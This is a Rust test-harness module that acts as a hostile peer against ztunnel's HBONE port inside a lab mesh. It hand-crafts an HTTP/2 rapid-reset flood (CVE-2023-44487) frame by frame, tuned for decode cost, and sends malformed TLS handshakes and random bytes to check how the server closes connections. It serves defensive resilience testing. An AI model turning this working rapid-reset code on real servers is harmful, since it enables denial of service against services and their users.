//! Raw clients of ztunnel's HBONE port (15008) as a hostile peer writes them, from any pod's
//! netns: HTTP/2 rapid reset with a workload certificate of the lab's CA, TLS offering the
//! wrong application protocol or no client certificate, and random bytes. Each says how the
//! server ended the connection and how long that took; the scenarios judge.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use mesh::certs::{CertStore, LocalCa};
use mesh::tls::TlsContext;
use mesh::Identity;
use rustls::pki_types::ServerName;
use rustls::ClientConfig;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::probe::TRUST_DOMAIN;

/// How long a connection may stay open after the attacker's last byte before we call it
/// held: ztunnel's handshake timeout is 10 s, a server that waits for it has not noticed.
pub const HELD_AFTER: Duration = Duration::from_secs(5);

/// An attacker with a workload certificate of the lab's CA, dialling from a pod's netns.
pub struct Attacker {
    runtime: tokio::runtime::Runtime,
    tls: TlsContext,
    identity: Identity,
    netns: String,
}

/// How a connection of the attacker ended.
#[derive(Debug)]
pub struct Ending {
    /// From the attacker's first byte to the end.
    pub after: Duration,
    /// The server closed it (EOF, reset, TLS alert) rather than keeping it past [`HELD_AFTER`].
    pub closed: bool,
    /// What ended it, for the report.
    pub how: String,
    /// Bytes the server sent that were not a TLS alert (an answer to the attacker).
    pub answered: usize,
}

/// What the TLS handshake offers.
#[derive(Debug, Clone, Copy)]
pub enum TlsVariant {
    /// Only this ALPN protocol (not `h2`).
    Alpn(&'static [u8]),
    /// No ALPN extension at all.
    NoAlpn,
    /// ALPN `h2` but no client certificate when the server asks for one.
    NoClientCertificate,
}

/// The result of an HTTP/2 rapid-reset run on one connection.
#[derive(Debug)]
pub struct ResetFlood {
    /// CONNECT streams opened and reset (HEADERS then RST_STREAM) before the server ended the
    /// connection or the run stopped.
    pub sent: u32,
    /// Streams the server says it processed: those up to the last stream id of its GOAWAY.
    pub accepted: Option<u32>,
    /// The error code of the server's GOAWAY, if it sent one (0xb: ENHANCE_YOUR_CALM).
    pub go_away: Option<u32>,
    /// Response HEADERS and RST_STREAMs the server sent (work it did for reset streams).
    pub responses: u32,
    pub server_resets: u32,
    /// How the connection ended (EOF, an I/O error); `None`: still open [`HELD_AFTER`] after
    /// the last stream.
    pub ended: Option<String>,
    pub elapsed: Duration,
}

/// HEADERS + RST_STREAM pairs per write: a few TLS records' worth.
const BURST_STREAMS: u32 = 100;

/// What the rapid-reset reader saw of the server.
#[derive(Debug, Default)]
struct ServerFrames {
    /// GOAWAY's last stream id and error code.
    go_away: Option<(u32, u32)>,
    responses: u32,
    resets: u32,
    ended: Option<String>,
}

/// The HPACK block of `CONNECT authority`: both names from the static table (`:authority`
/// is entry 1, `:method` entry 2), values as literals without indexing and without Huffman
/// coding (RFC 7541 §6.2.2), so every request costs the server a full decode.
fn connect_headers(authority: &str) -> Result<Vec<u8>, String> {
    let mut block = Vec::new();
    for (index, value) in [(2u8, "CONNECT"), (1, authority)] {
        // A 7-bit length prefix holds up to 126 bytes in one octet.
        let len = u8::try_from(value.len())
            .ok()
            .filter(|l| *l < 127)
            .ok_or_else(|| format!("header value too long for this encoder: {value}"))?;
        block.push(index);
        block.push(len);
        block.extend_from_slice(value.as_bytes());
    }
    Ok(block)
}

/// HTTP/2 framing (RFC 9113 §4), as much as the rapid-reset client needs.
mod frames {
    use tokio::io::{AsyncRead, AsyncReadExt};

    pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    pub const HEADERS: u8 = 0x1;
    pub const RST_STREAM: u8 = 0x3;
    pub const SETTINGS: u8 = 0x4;
    pub const GOAWAY: u8 = 0x7;
    pub const ACK: u8 = 0x1;
    pub const END_HEADERS: u8 = 0x4;
    pub const CANCEL: u32 = 0x8;
    /// Larger frames than the default SETTINGS_MAX_FRAME_SIZE are not ours to read.
    const MAX_PAYLOAD: usize = 16 << 20;

    pub struct Frame {
        pub kind: u8,
        pub flags: u8,
        pub payload: Vec<u8>,
    }

    /// Appends one frame to `out`.
    pub fn push(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let len = payload.len() as u32;
        out.extend_from_slice(&len.to_be_bytes()[1..]);
        out.push(kind);
        out.push(flags);
        out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
        out.extend_from_slice(payload);
    }

    /// Reads one frame; Err says how the stream ended (EOF or an error).
    pub async fn read<R: AsyncRead + Unpin>(r: &mut R) -> Result<Frame, String> {
        let mut head = [0u8; 9];
        r.read_exact(&mut head).await.map_err(|e| match e.kind() {
            std::io::ErrorKind::UnexpectedEof => "EOF".to_string(),
            _ => e.to_string(),
        })?;
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        if len > MAX_PAYLOAD {
            return Err(format!("a frame of {len} bytes"));
        }
        let mut payload = vec![0u8; len];
        r.read_exact(&mut payload)
            .await
            .map_err(|e| format!("inside a frame: {e}"))?;
        Ok(Frame {
            kind: head[3],
            flags: head[4],
            payload,
        })
    }
}

/// A client certificate resolver with nothing to present.
#[derive(Debug)]
struct NoCertificate;

impl rustls::client::ResolvesClientCert for NoCertificate {
    fn resolve(
        &self,
        _root_hint_subjects: &[&[u8]],
        _sigschemes: &[rustls::SignatureScheme],
    ) -> Option<Arc<rustls::sign::CertifiedKey>> {
        None
    }

    fn has_certs(&self) -> bool {
        false
    }
}

impl Attacker {
    /// An attacker holding the certificate of `namespace/service_account`, dialling from
    /// `netns`.
    pub fn new(lab: &lab::Lab, netns: &str, namespace: &str, service_account: &str) -> Attacker {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("runtime");
        let ca = LocalCa::load_or_create(&lab::mesh::ca_dir(lab.state()), TRUST_DOMAIN)
            .expect("the lab's CA");
        let identity = Identity::new(TRUST_DOMAIN, namespace, service_account).expect("identity");
        let tls =
            TlsContext::new(TRUST_DOMAIN, CertStore::new(), ca.trust_roots()).expect("TLS context");
        tls.store().insert(
            ca.issue(&identity, Duration::from_secs(3600))
                .expect("certificate"),
        );
        Attacker {
            runtime,
            tls,
            identity,
            netns: netns.to_string(),
        }
    }

    /// The HBONE client configuration (TLS 1.3, ALPN h2, our certificate), verifying that the
    /// server is `destination`.
    fn hbone_config(&self, destination: &Identity) -> Arc<ClientConfig> {
        self.tls
            .client_config(&self.identity, std::slice::from_ref(destination))
            .expect("client config")
    }

    /// A TCP connection to `to` from the attacker's netns.
    fn dial(&self, to: SocketAddr) -> Result<TcpStream, String> {
        let std = lab::netns::run_in(&self.netns, || {
            std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5))
        })
        .map_err(|e| e.to_string())?
        .map_err(|e| format!("connecting to {to}: {e}"))?;
        std.set_nonblocking(true).map_err(|e| e.to_string())?;
        let _enter = self.runtime.enter();
        TcpStream::from_std(std).map_err(|e| e.to_string())
    }

    /// Opens one HBONE connection to `hbone` and sends, in bursts as fast as the socket takes
    /// them, a CONNECT stream for `authority` and its reset (RST_STREAM CANCEL), up to
    /// `streams` times or for `limit`: the HTTP/2 rapid-reset attack (CVE-2023-44487). Written
    /// frame by frame (an HTTP/2 library would not let its user be this rude, and would hide
    /// the GOAWAY behind a write error); a reader takes the server's frames meanwhile.
    pub fn rapid_reset(
        &self,
        hbone: SocketAddr,
        destination: &Identity,
        authority: &str,
        streams: u32,
        limit: Duration,
    ) -> Result<ResetFlood, String> {
        let tcp = self.dial(hbone)?;
        let config = self.hbone_config(destination);
        let started = Instant::now();
        let headers = connect_headers(authority)?;
        // Client stream ids are the odd numbers below 2^31.
        let streams = streams.min(1 << 30);
        self.runtime.block_on(async move {
            let tls = tokio_rustls::TlsConnector::from(config)
                .connect(ServerName::from(hbone.ip()), tcp)
                .await
                .map_err(|e| format!("TLS handshake: {e}"))?;
            let (mut rd, mut wr) = tokio::io::split(tls);
            let mut start = frames::PREFACE.to_vec();
            frames::push(&mut start, frames::SETTINGS, 0, 0, &[]);
            send(&mut wr, &start)
                .await
                .map_err(|e| format!("sending the preface: {e}"))?;
            // The server's SETTINGS first (acknowledged, as a client must), then the flood
            // while a reader watches for GOAWAY.
            let (settings_tx, settings_rx) = tokio::sync::oneshot::channel();
            let seen = Arc::new(parking_lot::Mutex::new(ServerFrames::default()));
            let mut reader = {
                let seen = seen.clone();
                tokio::spawn(async move {
                    let mut settings_tx = Some(settings_tx);
                    loop {
                        let frame = match frames::read(&mut rd).await {
                            Ok(frame) => frame,
                            Err(e) => {
                                seen.lock().ended = Some(e);
                                return;
                            }
                        };
                        let mut seen = seen.lock();
                        match frame.kind {
                            frames::SETTINGS if frame.flags & frames::ACK == 0 => {
                                if let Some(tx) = settings_tx.take() {
                                    let _ = tx.send(());
                                }
                            }
                            frames::HEADERS => seen.responses += 1,
                            frames::RST_STREAM => seen.resets += 1,
                            frames::GOAWAY if frame.payload.len() >= 8 => {
                                let word = |at: usize| {
                                    let bytes = [0, 1, 2, 3].map(|i| frame.payload[at + i]);
                                    u32::from_be_bytes(bytes)
                                };
                                seen.go_away = Some((word(0) & 0x7fff_ffff, word(4)));
                            }
                            _ => {}
                        }
                    }
                })
            };
            tokio::time::timeout(HELD_AFTER, settings_rx)
                .await
                .map_err(|_| "no SETTINGS from the server".to_string())?
                .map_err(|_| "the connection ended before the server's SETTINGS".to_string())?;
            let mut ack = Vec::new();
            frames::push(&mut ack, frames::SETTINGS, frames::ACK, 0, &[]);
            send(&mut wr, &ack)
                .await
                .map_err(|e| format!("acknowledging SETTINGS: {e}"))?;
            let mut sent = 0u32;
            let mut write_error = None;
            let mut burst = Vec::new();
            while sent < streams
                && started.elapsed() < limit
                && !reader.is_finished()
                && seen.lock().go_away.is_none()
            {
                burst.clear();
                for _ in 0..BURST_STREAMS.min(streams - sent) {
                    let id = 2 * sent + 1;
                    frames::push(
                        &mut burst,
                        frames::HEADERS,
                        frames::END_HEADERS,
                        id,
                        &headers,
                    );
                    frames::push(
                        &mut burst,
                        frames::RST_STREAM,
                        0,
                        id,
                        &frames::CANCEL.to_be_bytes(),
                    );
                    sent += 1;
                }
                if let Err(e) = send(&mut wr, &burst).await {
                    write_error = Some(e.to_string());
                    break;
                }
                // The reader shares this thread: let it take what the server said.
                tokio::task::yield_now().await;
            }
            // What the server says after our last frame (a GOAWAY, its close) comes now.
            if tokio::time::timeout(HELD_AFTER, &mut reader).await.is_err() {
                reader.abort();
            }
            let seen = std::mem::take(&mut *seen.lock());
            Ok(ResetFlood {
                sent,
                accepted: seen.go_away.map(|(last, _)| last.div_ceil(2)),
                go_away: seen.go_away.map(|(_, code)| code),
                responses: seen.responses,
                server_resets: seen.resets,
                ended: seen.ended.or(write_error),
                elapsed: started.elapsed(),
            })
        })
    }

    /// A TLS handshake with `hbone` offering `variant`; if it completes, an HTTP/1.1 request
    /// (what a client that got the protocol wrong would send). Then reads until the server
    /// ends the connection, for at most [`HELD_AFTER`].
    pub fn tls_session(
        &self,
        hbone: SocketAddr,
        destination: &Identity,
        variant: TlsVariant,
    ) -> Result<Ending, String> {
        let mut config = ClientConfig::clone(&self.hbone_config(destination));
        match variant {
            TlsVariant::Alpn(protocol) => config.alpn_protocols = vec![protocol.to_vec()],
            TlsVariant::NoAlpn => config.alpn_protocols.clear(),
            TlsVariant::NoClientCertificate => {
                config.client_auth_cert_resolver = Arc::new(NoCertificate);
            }
        }
        let tcp = self.dial(hbone)?;
        let started = Instant::now();
        Ok(self.runtime.block_on(async move {
            let connect = tokio_rustls::TlsConnector::from(Arc::new(config))
                .connect(ServerName::from(hbone.ip()), tcp);
            let mut tls = match tokio::time::timeout(HELD_AFTER, connect).await {
                Err(_) => {
                    return Ending {
                        after: started.elapsed(),
                        closed: false,
                        how: "the handshake got no answer".into(),
                        answered: 0,
                    }
                }
                Ok(Err(e)) => {
                    return Ending {
                        after: started.elapsed(),
                        closed: true,
                        how: format!("handshake failed: {e}"),
                        answered: 0,
                    }
                }
                Ok(Ok(tls)) => tls,
            };
            let _ = tls
                .write_all(b"GET / HTTP/1.1\r\nhost: ztunnel\r\n\r\n")
                .await;
            let _ = tls.flush().await;
            read_to_end(&mut tls, started).await
        }))
    }

    /// `len` pseudo-random bytes (from `seed`) to `to`, then reads until the server ends the
    /// connection, for at most [`HELD_AFTER`].
    pub fn random_bytes(&self, to: SocketAddr, len: usize, seed: u64) -> Result<Ending, String> {
        let mut tcp = self.dial(to)?;
        let bytes = random(len, seed);
        let started = Instant::now();
        Ok(self.runtime.block_on(async move {
            // The server may close before it has read everything: that is an ending too.
            let _ = tcp.write_all(&bytes).await;
            read_to_end(&mut tcp, started).await
        }))
    }
}

/// Writes `bytes` and flushes them out of TLS's buffer onto the socket.
async fn send<W: AsyncWrite + Unpin>(w: &mut W, bytes: &[u8]) -> std::io::Result<()> {
    w.write_all(bytes).await?;
    w.flush().await
}

/// Reads until EOF or an error (the server's end), or [`HELD_AFTER`] (held).
async fn read_to_end<S: AsyncRead + Unpin>(stream: &mut S, started: Instant) -> Ending {
    let mut answered = 0;
    let mut buf = vec![0u8; 16 << 10];
    loop {
        let left = HELD_AFTER.saturating_sub(started.elapsed());
        match tokio::time::timeout(left, stream.read(&mut buf)).await {
            Err(_) => {
                return Ending {
                    after: started.elapsed(),
                    closed: false,
                    how: "still open".into(),
                    answered,
                }
            }
            Ok(Ok(0)) => {
                return Ending {
                    after: started.elapsed(),
                    closed: true,
                    how: "EOF".into(),
                    answered,
                }
            }
            Ok(Ok(n)) => answered += n,
            Ok(Err(e)) => {
                return Ending {
                    after: started.elapsed(),
                    closed: true,
                    how: e.to_string(),
                    answered,
                }
            }
        }
    }
}

/// `len` bytes of a xorshift64* sequence from `seed`: random enough to be no protocol, the
/// same on every run.
pub fn random(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        out.extend_from_slice(&x.wrapping_mul(0x2545_f491_4f6c_dd1d).to_le_bytes());
    }
    out.truncate(len);
    out
}
